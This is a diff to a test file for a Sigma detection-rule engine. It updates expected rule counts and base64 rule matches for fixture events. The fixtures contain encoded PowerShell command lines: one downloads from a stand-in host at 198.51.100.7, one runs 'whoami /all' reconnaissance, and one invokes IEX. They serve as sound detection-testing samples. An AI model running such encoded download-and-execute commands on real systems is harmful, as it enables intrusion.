@@ -43,8 +43,8 @@ const events = JSON.parse(readFileSync(join(FIX, 'modifiers/events.json'), 'utf8
 
 test('sigma: fixture rules load, refuse and count as the specification and wmiscope support say', () => {
   const s = modifiers.summary;
-  assert.equal(s.files, 17);
-  assert.equal(s.loaded, 8);
+  assert.equal(s.files, 18);
+  assert.equal(s.loaded, 9);
   assert.deepEqual(s.notApplicable, { count: 1, byLogsource: { 'linux/process_creation/': 1 } });
   assert.deepEqual(
     s.notLoaded.map((n) => [n.id, n.why]),
@@ -89,7 +89,10 @@ test('sigma: each fixture event gets exactly the expected hits and matched field
     'sysmon1-cmd': [],
     'security4688-wmiprvse': [['mod-4688', ['NewProcessName=C:\\Windows\\System32\\wbem\\WmiPrvSE.exe', 'IntegrityLevel=System']]],
     'sysmon20-base64': [['mod-base64', ['Destination=cmd /c echo d2hvYW1pIC9hbGw= > x']]],
-    'sysmon20-base64offset': [['mod-base64', ['Destination=powershell -e JHc9TmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50OyR3LkRvd25sb2FkU3RyaW5nKCJodHRwOi8vMTk4LjUxLjEwMC43L2EiKQ==']]],
+    'sysmon20-base64offset': [
+      ['mod-base64', ['Destination=powershell -e JHc9TmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50OyR3LkRvd25sb2FkU3RyaW5nKCJodHRwOi8vMTk4LjUxLjEwMC43L2EiKQ==']],
+      ['mod-b64-all', ['Destination=powershell -e JHc9TmV3LU9iamVjdCBOZXQuV2ViQ2xpZW50OyR3LkRvd25sb2FkU3RyaW5nKCJodHRwOi8vMTk4LjUxLjEwMC43L2EiKQ==']],
+    ],
     'sysmon20-wide': [['mod-base64', ['Destination=powershell -enc JABhAD0AMQA7AEkARQBYACAAJABiAA==']]],
     'sysmon20-utf16le': [['mod-base64', ['Destination=YwBhAGwAYwA=']]],
     'sysmon20-utf16le-lowercase': [], // base64 is compared case-sensitively
